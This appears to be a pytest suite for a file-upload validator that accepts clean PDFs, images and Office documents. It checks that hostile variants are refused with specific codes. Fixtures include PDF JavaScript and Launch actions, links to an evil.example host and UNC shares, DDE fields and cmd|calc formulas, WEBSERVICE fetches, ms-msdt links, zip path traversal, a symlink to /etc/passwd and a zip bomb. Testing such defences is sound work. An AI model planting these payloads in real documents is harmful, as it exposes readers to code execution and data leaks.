"""What a file really is: each accepted type from real bytes, each refusal by the one thing that is wrong."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import typst

from sandbox_registry.documents.uploads.contents import formulas, pdf_files
from sandbox_registry.documents.uploads.contents.judgement import DOCX, JPEG, PDF, PNG, XLSX, Kind, Unacceptable
from sandbox_registry.documents.uploads.contents.recognition import recognise
from sandbox_registry.documents.uploads.contents.server import judged
from sandbox_registry.documents.uploads.inspection import judgement_of
from tests.documents.uploads import files
from tests.support.field_errors import check_said, errors_of

CODES = frozenset(
    {
        "archive_unsafe",
        "broken_file",
        "image_too_large",
        "office_active_content",
        "pdf_active_content",
        "pdf_embedded_file",
        "pdf_encrypted",
        "unknown_type",
    }
)


def judge(directory: Path, content: bytes) -> Kind:
    path = directory / "upload"
    path.write_bytes(content)
    return recognise(path)


def refusal(directory: Path, content: bytes) -> str:
    with pytest.raises(Unacceptable) as caught:
        judge(directory, content)
    return caught.value.code


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (files.pdf(), PDF),
        (files.packed_pdf(), PDF),
        (files.png(), PNG),
        (files.JPEG, JPEG),
        (files.office(files.word_parts()), DOCX),
        (files.office(files.sheet_parts()), XLSX),
        (files.office(files.sheet_parts(), compression=zipfile.ZIP_STORED), XLSX),
    ],
)
def test_recognise_names_each_accepted_type(tmp_path: Path, content: bytes, kind: Kind) -> None:
    assert judge(tmp_path, content) == kind


def test_recognise_takes_what_a_typesetter_writes(tmp_path: Path) -> None:
    source = '#outline()\n= Đề án\n#link("https://tom.example")[liên kết] #table(columns: 2, [Ao], [pH])'
    assert judge(tmp_path, typst.compile(source.encode())) == PDF


@pytest.mark.parametrize(
    "content",
    [
        b"Ao nuoi tom",
        b"MZ\x90\x00" * 100,
        b"<html><script>alert(1)</script></html>",
        b"GIF89a" + bytes(100),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        b"  " + files.pdf(),
        b"Rar!\x1a\x07\x00" + bytes(50),
        files.office({"a.txt": b"a"}),
        files.office({name: part for name, part in files.word_parts().items() if name != "word/document.xml"}),
        files.office({**files.word_parts(), "[Content_Types].xml": b"<Types/>"}),
    ],
)
def test_what_is_none_of_the_types_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "unknown_type"


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, b"") == "empty_file"


# --- PDF ---------------------------------------------------------------------------------------------------------------

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-",
        b"%PDF-9.9\n" + files.pdf()[9:],
        files.pdf()[:-40],
        files.pdf() + bytes(3000),
        files.pdf() + b"PK\x03\x04 an archive behind the end",
        files.pdf().replace(b"startxref\n", b"startxref\n99"),
        files.pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     "),
        files.pdf().replace(b"0000000015", b"0000000019"),
        # What a viewer that repairs the table would find and qpdf does not.
        files.pdf() + b"5 0 obj\n" + SCRIPT + b"\nendobj\nstartxref\n99\n%%EOF\n",
    ],
)
def test_a_pdf_that_is_not_whole_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "broken_file"


ACTIVE = {
    "script": SCRIPT,
    "escaped": b"<< /S /J#61v#61Script /#4a#53 (app.alert(1)) >>",
    "no text": b"<< /S /#4A#61#76#61#53#63#72#69#70#74 >>",
    "script elsewhere": b"<</S/JavaScript/JS 6 0 R>>",
    "rendition": b"<< /S /Rendition /JS (app.alert(1)) >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "odd launch": b"<< /S /Launch#20 /JS (x) >>",
    "deep": b"<< /A [ << /B << /C [ << /S /JavaScript >> ] >> >> ] >>",
    "form": b"<< /Fields [] /XFA (x) >>",
    "sending": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "importing": b"<< /S /ImportData /F (a.fdf) >>",
    "film": b"<< /Type /Annot /Subtype /RichMedia >>",
    "screen": b"<< /Type /Annot /Subtype /Screen >>",
    "other file": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>",
    "other file by specification": b"<< /S /GoToR /F << /Type /Filespec /F (a.pdf) >> >>",
    "thread of a file": b"<< /S /Thread /F (a.pdf) /D 0 >>",
    "share": b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>",
    "share by slashes": b"<< /S /URI /URI (//evil.example/share) >>",
    "file": b"<< /S /URI /URI (file://evil.example/a) >>",
    "program": b"<< /S /URI /URI ( javascript:alert\\(1\\)) >>",
    "share after a control character": b"<< /S /URI /URI (\\001\\\\\\\\evil.example\\\\share) >>",
    "program after blanks": b"<< /S /URI /URI (\\r\\n\\000 java\\tscript:alert\\(1\\)) >>",
    "program in wide letters": b"<< /S /URI /URI <FEFF006D0073002D006D0073006400740000003A0078> >>",
    "odd scheme": b"<< /S /URI /URI (search-ms:query=a) >>",
    "base of links": b"<< /URI << /Base (file://evil.example/) >> >>",
    "opened on a page": b"<< /AA << /O << /S /URI /URI (https://evil.example/seen) >> >> >>",
    "opened after another": b"<< /AA << /O << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /Next << /S /URI /URI (https://a.example) >> >>] >> >> >>",
    "page of another file": b"<< /Subtype /Form /Ref << /F (\\\\\\\\evil.example\\\\a.pdf) /Page 0 >> >>",
    "proof of an image": b"<< /OPI << /2.0 << /Type /OPI /Version 2.0 /F (\\\\\\\\evil.example\\\\a.eps) >> >> >>",
    "file by address": b"<< /FS /URL /F (https://evil.example/a) >>",
    "file by type": b"<< /Type /Filespec /F (\\\\\\\\evil.example\\\\a) >>",
    "stream kept elsewhere": b"<< /Length 0 /F (a.bin) >>\nstream\n\nendstream",
}


@pytest.mark.parametrize("pack", [files.pdf, files.packed_pdf])
@pytest.mark.parametrize("body", ACTIVE.values(), ids=ACTIVE)
def test_a_pdf_with_scripts_or_actions_is_refused(tmp_path: Path, body: bytes, pack: Callable[..., bytes]) -> None:
    assert refusal(tmp_path, pack(body)) == "pdf_active_content"


def test_a_script_that_runs_on_opening_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, files.pdf(catalog=b"/OpenAction " + SCRIPT)) == "pdf_active_content"
    assert refusal(tmp_path, files.packed_pdf(catalog=b"/OpenAction " + SCRIPT)) == "pdf_active_content"


@pytest.mark.parametrize("pack", [files.pdf, files.packed_pdf])
@pytest.mark.parametrize(
    "what", [b"/OpenAction 5 0 R", b"/AA << /WC 5 0 R >>", b"/OpenAction << /S /GoTo /Next 5 0 R >>"]
)
def test_a_link_that_is_followed_unasked_is_refused(tmp_path: Path, what: bytes, pack: Callable[..., bytes]) -> None:
    link = b"<< /S /URI /URI (https://evil.example/seen) /Next 5 0 R >>"
    assert refusal(tmp_path, pack(link, catalog=what)) == "pdf_active_content"
    assert judge(tmp_path, pack(link, catalog=b"/Outlines << /A 5 0 R >>")) == PDF


ATTACHED = {
    "tree": b"<< /EmbeddedFiles << /Names [(a.exe) 1 0 R] >> >>",
    "kids": b"<< /EmbeddedFiles << /Kids [1 0 R] >> >>",
    "file": files.flate(b"MZ", b"/Type /EmbeddedFile "),
    "escaped": files.flate(b"MZ", b"/Type /Embedded#46ile "),
    "note": b"<< /Subtype /FileAttachment >>",
    "specification": b"<< /Type /Filespec /F (a.exe) /EF << /F 1 0 R >> >>",
    "going there": b"<< /S /GoToE /T << /R /C >> >>",
}


@pytest.mark.parametrize("pack", [files.pdf, files.packed_pdf])
@pytest.mark.parametrize("body", ATTACHED.values(), ids=ATTACHED)
def test_a_pdf_with_files_inside_is_refused(tmp_path: Path, body: bytes, pack: Callable[..., bytes]) -> None:
    assert refusal(tmp_path, pack(body)) == "pdf_embedded_file"


@pytest.mark.parametrize("user", ["", "secret"])
def test_an_encrypted_pdf_is_refused(tmp_path: Path, user: str) -> None:
    assert refusal(tmp_path, files.locked_pdf(user=user)) == "pdf_encrypted"


def test_a_pdf_of_too_many_objects_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_files, "MAX_OBJECTS", 5)
    assert refusal(tmp_path, files.pdf(b"<<>>", b"<<>>")) == "pdf_unreadable"


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(catalog=b"/OpenAction [3 0 R /Fit] /Outlines << /First 3 0 R /Last 3 0 R >>"),
        files.pdf(b"<< /S /URI /URI (https://tom-ca-mau.example/JavaScript?/Launch) >>"),
        files.pdf(b"<< /S /URI /URI (mailto:lienhe@camau.example) >>"),
        files.pdf(b"<< /S /URI /URI (www.camau.example/a) >>"),
        files.pdf(b"<< /S /URI /URI ( ftp://camau.example/a) >>"),
        files.pdf(b"<< /URI << /Base (https://camau.example/) >> >>"),
        files.pdf(
            b"<< /Font << /EF << /Type /Font /BaseFont /Arial >> /Ref << /Type /Font >> >> /ColorSpace << /FS /DeviceRGB >> >>"
        ),
        files.pdf(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            catalog=b"/OpenAction 5 0 R /AA << /WC << /S /Named /N /Print >> >>",
        ),
        files.pdf(b"<< /JSX 1 /EFG 2 /LaunchPad 3 /EncryptMetadata true /XFAX 4 >>"),
        files.pdf(b"<< /Title (Ve /JavaScript, /Launch, /Encrypt va /EmbeddedFile) >>"),
        files.pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"<< /S /Transparency /Type /Group >>"),
        files.pdf(b"<< /EmbeddedFiles << /Names [] >> >>"),
        files.pdf(page=files.stream(b"(5 0 obj << /S /JavaScript /JS (x) >> endobj) Tj")),
        files.pdf(files.flate(files.chance(1).randbytes(300_000))),
        files.pdf(files.stream(b"\x00 /JS \x01 /EF \x02")),
        files.pdf(page=files.flate(b"0 0 m 1 1 l S " * 3_000_000)),
        files.packed_pdf(b"<< /Type /Font /BaseFont /Libertinus >>"),
    ],
)
def test_a_harmless_pdf_is_taken(tmp_path: Path, content: bytes) -> None:
    assert judge(tmp_path, content) == PDF


# --- images ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        files.png()[:-1],
        files.png() + b"\n",
        files.png()[:-12],
        files.png().replace(b"IDAT", b"IDAX"),
        files.png()[:8] + files.png()[33:],
        files.png(0, 5),
        b"\x89PNG\r\n\x1a\n",
        b"\x89PNG\r\n\x1a\n" + files.chunk(b"IHDR", b"12"),
        files.JPEG[:300],
        files.JPEG[:-2],
        files.JPEG[:4],
        files.JPEG + bytes(100_000),
        files.JPEG.replace(b"\xff\xc0", b"\xff\xfe"),
        b"\xff\xd8\xff\xe0\x00\x00" * 50,
    ],
)
def test_an_image_that_is_not_whole_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "broken_file"


def test_an_image_of_too_many_pixels_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, huge_image()) == "image_too_large"
    frame = files.JPEG.find(b"\xff\xc0")
    wide = files.JPEG[: frame + 5] + b"\xff\xff\xff\xff" + files.JPEG[frame + 9 :]
    assert refusal(tmp_path, wide) == "image_too_large"


# --- office files ------------------------------------------------------------------------------------------------------


def word(**parts: bytes) -> bytes:
    return files.office({**files.word_parts(), **parts})


def sheets(**parts: bytes) -> bytes:
    return files.office({**files.sheet_parts(), **parts})


FIELD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldChar w:fldCharType="begin"/>'
    '{}<w:fldChar w:fldCharType="end"/></w:document>'
)
ENTITIES = b"""<?xml version='1.0'?><p:Relationships xmlns:p='http://schemas.openxmlformats.org/package/2006/relationships'>
<p:Relationship  Target='&#104;ttp://evil.example/a?b=">"'  TargetMode
= '&#69;xternal' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#x54;emplate' Id='a'/>
</p:Relationships>"""


def entry(name: str, content: bytes = b"x", *, attributes: int = 0, flags: int = 0) -> bytes:
    """Make a document with one more entry, written as a hostile packer would."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for part, body in files.word_parts().items():
            package.writestr(part, body)
        info = zipfile.ZipInfo("x" * len(name.encode()))
        info.external_attr = attributes
        package.writestr(info, content)
    spoilt = out.getvalue().replace(b"x" * len(name.encode()), name.encode())
    at = spoilt.rfind(b"PK\x01\x02")
    return spoilt[: at + 8] + struct.pack("<H", flags) + spoilt[at + 10 :] if flags else spoilt


@pytest.mark.parametrize(
    "content",
    [
        entry("/etc/passwd"),
        entry("../../evil.xml"),
        entry("word/../../evil.xml"),
        entry("C:/evil.xml"),
        entry("word\\evil.xml"),
        entry("word/link", b"/etc/passwd", attributes=(stat.S_IFLNK | 0o777) << 16),
        entry("word/secret.xml", flags=1),
        word(**{"word/DOCUMENT.xml": b"twice"}),
        word(**{"word/media/bomb.xml": bytes(30_000_000)}),
        files.office({**files.word_parts(), **{f"word/{number}.xml": b"" for number in range(4001)}}),
        word(**{"word/_rels/settings.xml.rels": b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
        word(**{"word/_rels/settings.xml.rels": b"<Relationships>"}),
        word(**{"word/_rels/settings.xml.rels": files.chance(2).randbytes(5_000_000)}),
    ],
)
def test_an_unsafe_package_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "archive_unsafe"


def test_a_package_whose_entries_share_bytes_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, shared()) == "archive_unsafe"


def test_a_directory_too_large_to_read_is_refused_unread(tmp_path: Path) -> None:
    content = word()
    entries = content[:-22] + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    assert refusal(tmp_path, entries) == "archive_unsafe"
    sixty_four = content[:-22] + b"PK\x06\x07" + bytes(16) + content[-22:]
    assert refusal(tmp_path, sixty_four) == "archive_unsafe"


@pytest.mark.parametrize(
    "content",
    [
        word(**{"word/vbaProject.bin": b"macro"}),
        word(**{"word/VBAPROJECT.BIN": b"macro"}),
        word(**{"word/activeX/activeX1.xml": b"<x/>"}),
        word(**{"word/embeddings/oleObject1.bin": b"ole"}),
        word(**{"word/embeddings/evil.xlsm": b"PK"}),
        word(**{"word/media/evil.exe": b"MZ"}),
        files.office({**files.sheet_parts(), "xl/macrosheets/sheet1.xml": b"<x/>"}),
        word(**{"word/_rels/settings.xml.rels": files.relationships(("attachedTemplate", "http://e.example/a", True))}),
        word(**{"word/_rels/settings.xml.rels": files.relationships(("oleObject", "file://e.example/a", True))}),
        word(**{"word/_rels/document.xml.rels": files.relationships(("vbaProject", "harmless.dat", False))}),
        word(**{"word/_rels/document.xml.rels": ENTITIES}),
        word(
            **{"word/_rels/document.xml.rels": files.relationships(("image", "https://evil.example/pixel.png", True))}
        ),
        word(**{"word/_rels/document.xml.rels": files.relationships(("hyperlink", "file://evil.example/a", True))}),
        word(**{"word/_rels/document.xml.rels": files.relationships(("hyperlink", "\\\\evil.example\\a", True))}),
        word(
            **{
                "word/document.xml": FIELD.format(
                    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\a</w:instrText></w:r>"
                ).encode()
            }
        ),
        word(**{"word/header1.xml": FIELD.format('<w:fldSimple w:instr=" &#68;DE cmd"/>').encode()}),
        word(
            **{
                "word/footnotes.xml": FIELD.format(
                    "<w:fldSimple w:instr='INCLUDEPICTURE http://evil.example/p'/>"
                ).encode()
            }
        ),
        sheets(**{"xl/externalLinks/externalLink1.xml": files.sheet('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>')}),
        sheets(**{"xl/externalLinks/externalLink1.xml": files.sheet('<oleLink progId="Word"/>')}),
        sheets(
            **{
                "xl/externalLinks/_rels/externalLink1.xml.rels": files.relationships(
                    ("externalLinkPath", "b.xlsx", True)
                )
            }
        ),
        sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<f>_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)</f>")}),
        sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<f>cmd|'/C calc'!A0</f>")}),
        sheets(**{"xl/connections.xml": files.sheet("")}),
        word(
            **{
                "[Content_Types].xml": files.word_parts()["[Content_Types].xml"].replace(
                    b"openxmlformats-officedocument.wordprocessingml", b"ms-word.document.macroEnabled"
                )
            }
        ),
    ],
)
def test_an_office_file_with_active_content_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "office_active_content"


BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{mark}"/>' for mark in ("begin", "separate", "end"))
LINK = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"'


def code(*instructions: str) -> str:
    """Write the instruction of a field in runs; what begins with a tag is written as it is."""
    return "".join(
        each if each.startswith("<") else f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions
    )


def fields(*instructions: str) -> bytes:
    return word(**{"word/document.xml": FIELD.format(code(*instructions)).encode()})


def related(kind: str, target: str, *, external: bool = True, source: str = "word/_rels/document.xml.rels") -> bytes:
    return word(**{source: files.relationships((kind, target, external))})


def formula(text: str) -> bytes:
    return sheets(**{"xl/worksheets/sheet2.xml": files.sheet(f"<f>{text}</f>")})


def typed(name: str, kind: str, content: bytes) -> bytes:
    """Make a document with one more part of a type that its directory of types says."""
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    types = files.word_parts()["[Content_Types].xml"].replace(b"</Types>", override)
    return word(**{"[Content_Types].xml": types, name: content})


def decoy() -> bytes:
    """Make a document whose relationship names another main part than the one that lies where it usually does."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    kept = FIELD.format(code("DDEAUTO c:\\\\a")).encode()
    parts = typed("other/page.dat", main, kept)
    with zipfile.ZipFile(io.BytesIO(parts)) as package:
        read = {name: package.read(name) for name in package.namelist()}
    return files.office({**read, "_rels/.rels": files.relationships(("officeDocument", "/other/page.dat", False))})


def chart_with(workbook: bytes, *, depth: int = 0) -> dict[str, bytes]:
    folder = "xl" if depth else "word"
    return {
        f"{folder}/charts/chart1.xml": b"<c:chartSpace xmlns:c='urn:c'/>",
        f"{folder}/charts/_rels/chart1.xml.rels": files.relationships(("package", "../embeddings/Sheet1.xlsx", False)),
        f"{folder}/embeddings/Sheet1.xlsx": workbook,
    }


HOSTILE_OFFICE = {
    "named by another field": fields(BEGIN, "QUOTE 68 68 69", END, " cmd"),
    "named by half by another field": fields("D", BEGIN, "QUOTE 68", SEPARATE, "<w:t>D</w:t>", END, "E cmd"),
    "in the field of another": fields("QUOTE ", BEGIN, "DDEAUTO c:\\\\a", END),
    "in the result of another": fields("QUOTE 1 ", SEPARATE, BEGIN, "DDE a", END),
    "behind a nested field": fields("DDE ", BEGIN, "PAGE", END),
    "in text of the instruction": fields("<w:t>DD</w:t>", "E cmd"),
    "without an end": word(**{"word/document.xml": FIELD.format(code(BEGIN, "DDE cmd", BEGIN)).encode()}),
    "link of a field to a share": fields("HYPERLINK \\o &quot;Note: a&quot; &quot;\\\\\\\\evil.example\\a&quot;"),
    "link of a field to a program": fields("HYPERLINK ms-msdt:/id"),
    "referenced document": fields("RD http://evil.example/a.docx"),
    "main part elsewhere": decoy(),
    "part of an odd name": typed("word/media/image1.png", "application/xml", FIELD.format(code("DDE cmd")).encode()),
    "part taken in": related("aFChunk", "a.html", external=False),
    "type with a stroke": related("attachedTemplate/", "http://evil.example/a"),
    "type with a blank": related("oleObject \t", "embeddings/a.xlsx", external=False),
    "blank mode": word(
        **{
            "word/_rels/document.xml.rels": files.relationships(("image", "http://e.example/a", True)).replace(
                b'"External"', b'" external\t"'
            )
        }
    ),
    "address without a mode": related("image", "http://evil.example/a", external=False),
    "share without a mode": related("hyperlink", "\\\\evil.example\\a", external=False),
    "link to a tool": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a search": related("hyperlink", "search-ms:query=a"),
    "link to a share by many strokes": related("hyperlink", "file:////evil.example/a"),
    "link after a control character": related("hyperlink", "&#9;file://evil.example/a"),
    "page as a part": typed("word/a.html", "text/html", b"<script/>"),
    "letter as a part": typed("word/a.mht", "message/rfc822", b"From: a"),
    "document inside": word(**{"word/embeddings/a.docx": word()}),
    "workbook of no chart": word(**{"word/embeddings/a.xlsx": sheets()}),
    "workbook of an object": word(
        **{
            "word/embeddings/a.xlsx": sheets(),
            "word/_rels/document.xml.rels": files.relationships(("package", "embeddings/a.xlsx", False)),
        }
    ),
    "chart with a hostile workbook": word(**chart_with(formula("RTD(&quot;a&quot;,,&quot;b&quot;)"))),
    "chart with a chart with a workbook": word(
        **chart_with(files.office({**files.sheet_parts(), **chart_with(sheets(), depth=1)}))
    ),
    "drawing from elsewhere": word(
        **{"word/a.xml": b"<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/a'/>"}
    ),
    "drawing that leads to a share": word(
        **{"word/a.xml": b"<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='\\\\evil\\a'/>"}
    ),
    "image of an address": formula("_xlfn.IMAGE(&quot;http://evil.example/&quot;&amp;A1)"),
    "image, lower case": formula("1+_xlfn._xlws.image (A1)"),
    "data of a server": formula("RTD(&quot;a.b&quot;,,&quot;c&quot;)"),
    "conversation not at the beginning": formula("1+cmd|'/C calc'!A0"),
    "conversation of a quoted program": formula("'cmd'|'/C calc'!A0"),
    "conversation after an open quote": formula("&quot;a&quot;&amp;b&quot;+cmd|a!A0"),
    "link to a share": formula("HYPERLINK(&quot;\\\\evil.example\\a&quot;,&quot;xem&quot;)"),
    "link to a share in pieces": formula("IF(A1,HYPERLINK(CONCATENATE(&quot;\\&quot;,&quot;\\evil&quot;),1),2)"),
    "link to a program": formula("HYPERLINK(&quot;ms-&quot;&amp;&quot;msdt:/id&quot;)"),
    "sheet of a share": formula("SUM('\\\\evil.example\\a\\[b.xlsx]c'!A1)"),
    "name that runs": sheets(
        **{
            "xl/workbook.xml": b"<workbook><definedName name='Auto_Open'>EXEC(&quot;calc&quot;)</definedName></workbook>"
        }
    ),
    "rule that fetches": sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<formula1>WEBSERVICE(A1)</formula1>")}),
    "field of a pivot table": sheets(**{"xl/pivot.xml": b"<cacheField formula='WEBSERVICE(A1)'/>"}),
    "formula longer than any": formula("1+" * 5000 + "1"),
}


@pytest.mark.parametrize("content", HOSTILE_OFFICE.values(), ids=HOSTILE_OFFICE)
def test_no_way_to_write_it_hides_active_content(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) == "office_active_content"


def test_a_document_is_what_its_relationship_names(tmp_path: Path) -> None:
    two = files.relationships(("officeDocument", "word/document.xml", False), ("officeDocument", "a.xml", False))
    assert refusal(tmp_path, word(**{"_rels/.rels": two})) == "unknown_type"
    assert refusal(tmp_path, word(**{"_rels/.rels": files.relationships()})) == "unknown_type"


@pytest.mark.parametrize(
    "content",
    [
        word(**{"word/document.xml": FIELD.format("<w:instrText>PAGE</w:instrText><w:t>DDE là gì?</w:t>").encode()}),
        word(**{"word/_rels/settings.xml.rels": "<Relationships/>".encode("utf-16")}),
        word(
            **{
                "word/_rels/document.xml.rels": files.relationships(
                    ("hyperlink", "https://camau.example/?a=\\\\b", True)
                )
            }
        ),
        sheets(**{"xl/worksheets/sheet2.xml": files.sheet("<f>SUM(A1:A9)</f><f>IF(A1=&quot;a|b&quot;,1,2)</f>")}),
        formula("IF(A1=&quot;EXEC (x), \\\\a và WEBSERVICE(b)&quot;,'Chi|phí'!A1,image+call)"),
        formula("HYPERLINK(&quot;https://camau.example/?a=&quot;&amp;A1,&quot;Ghi chu: xem \\\\a&quot;)"),
        formula("HYPERLINK(&quot;#'Sheet 1'!A1&quot;)"),
        fields("IF ", BEGIN, "MERGEFIELD a", SEPARATE, "<w:t>DDE</w:t>", END, " = 1 &quot;x&quot;"),
        fields("=", BEGIN, "PAGE", END, " - 1"),
        fields("TOC \\o &quot;1-3&quot; \\h", SEPARATE, BEGIN, "HYPERLINK \\l &quot;_Toc1&quot;", END),
        fields("HYPERLINK &quot;https://camau.example&quot; \\o &quot;Note: xem&quot;"),
        related("hyperlink", "ftp://camau.example/a"),
        related("hyperlink", "#muc-1"),
        related("hyperlink", "phu-luc.docx"),
        typed("word/media/image1.png", "image/png", files.png()),
        typed("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", b"\x00\x01"),
        typed(
            "word/a.xml", "application/xml", b"<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='#a' src='a.png'/>"
        ),
        typed("word/a.xml", "application/xml", b"<!-- <f>RTD(1)</f> --><m:f xmlns:m='urn:m'><t>DDE cmd|a</t></m:f>"),
    ],
)
def test_a_harmless_office_file_is_taken(tmp_path: Path, content: bytes) -> None:
    assert judge(tmp_path, content) in {DOCX, XLSX}


def test_a_chart_with_its_sheet_is_taken(tmp_path: Path) -> None:
    assert judge(tmp_path, word(**chart_with(sheets()))) == DOCX


@pytest.mark.parametrize(
    "text", ["a" * 9_000, " " * 9_000, "'" * 9_000, '"' * 8_001, "a (" * 2_700, "HYPERLINK(" * 800, "_xlfn." * 1_300]
)
def test_each_character_of_a_formula_is_read_a_few_times_at_most(text: str) -> None:
    """Counted over the tokens, which are what the work is: none of these is longer or comes more often than the text."""
    tokens = formulas._TOKEN.findall(text)  # noqa: SLF001 - to count the work.
    assert sum(len(part) for token in tokens for part in token) <= len(text)
    assert len(tokens) <= len(text)


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04", word()[:-30], word()[:-10], word() + b"tail", word()[:200] + bytes(300) + word()[500:]]
)
def test_a_broken_package_is_refused(tmp_path: Path, content: bytes) -> None:
    assert refusal(tmp_path, content) in {"broken_file", "archive_unsafe"}


@pytest.mark.parametrize(
    "content",
    [files.packed_pdf(b"<< /A 1 >>"), files.png(), files.JPEG, word()],
    ids=["pdf", "png", "jpeg", "docx"],
)
def test_spoilt_bytes_are_judged_and_never_break_the_judge(tmp_path: Path, content: bytes) -> None:
    chance = files.chance(zlib.crc32(content))
    for _ in range(400):
        spoilt = bytearray(content)
        for _ in range(chance.randint(1, 6)):
            spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
        try:
            judge(tmp_path, bytes(spoilt[: chance.randint(1, len(spoilt))]) if chance.random() < 0.3 else bytes(spoilt))
        except Unacceptable as error:
            assert error.code in CODES  # noqa: PT017 - either answer is one.


def shared() -> bytes:
    """A package whose last two entries begin at the same byte."""
    content = bytearray(word(**{"word/a.xml": b"a" * 100, "word/b.xml": b"b" * 100}))
    offsets = [at for at in range(len(content) - 4) if content[at : at + 4] == b"PK\x01\x02"]
    content[offsets[-1] + 42 : offsets[-1] + 46] = content[offsets[-2] + 42 : offsets[-2] + 46]
    return bytes(content)


def huge_image() -> bytes:
    """An image of more pixels than are taken."""
    header = struct.pack(">IIBBBBB", 65_000, 65_000, 8, 0, 0, 0, 0)
    return files.png()[:8] + files.chunk(b"IHDR", header) + files.png()[33:]


REFUSALS: dict[str, bytes] = {
    "upload.archive_unsafe": shared(),
    "upload.broken_file": files.pdf()[:-40],
    "upload.empty_file": b"",
    "upload.image_too_large": huge_image(),
    "upload.office_active_content": word(**{"word/vbaProject.bin": b"macro"}),
    "upload.pdf_active_content": files.pdf(SCRIPT),
    "upload.pdf_embedded_file": files.pdf(b"<< /Subtype /FileAttachment >>"),
    "upload.pdf_encrypted": files.locked_pdf(user="secret"),
    "upload.pdf_unreadable": files.pdf(*[b"<<>>"] * 20),
    "upload.unknown_type": b"MZ",
    "upload.unsafe.bytes": word(**{"word/media/bomb.xml": bytes(30_000_000)}),
    "upload.unsafe.compression": entry("word/secret.xml", flags=1),
    "upload.unsafe.entries": word(**{"word/DOCUMENT.xml": b"twice"}),
    "upload.unsafe.objects": files.pdf(*[b"<<>>"] * 20),
    "upload.unsafe.offset": word()[:-22] + b"gap." + word()[-22:],
    "upload.unsafe.overlap": shared(),
    "upload.unsafe.path": entry("../../evil.xml"),
    "upload.unsafe.symlink": entry("word/link", b"/etc/passwd", attributes=(stat.S_IFLNK | 0o777) << 16),
}
"""A file that is refused with each sentence there is, but for what goes over the limits."""


@pytest.mark.parametrize("key", REFUSALS)
def test_refusal_says_its_sentence_in_three_languages(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str
) -> None:
    monkeypatch.setattr(pdf_files, "MAX_OBJECTS", 15)
    path = tmp_path / "upload"
    path.write_bytes(REFUSALS[key])
    check_said(
        key, errors_of(lambda: judgement_of({**judged(path, tmp_path / "copy"), "seconds": 0.0}).require_accepted())
    )
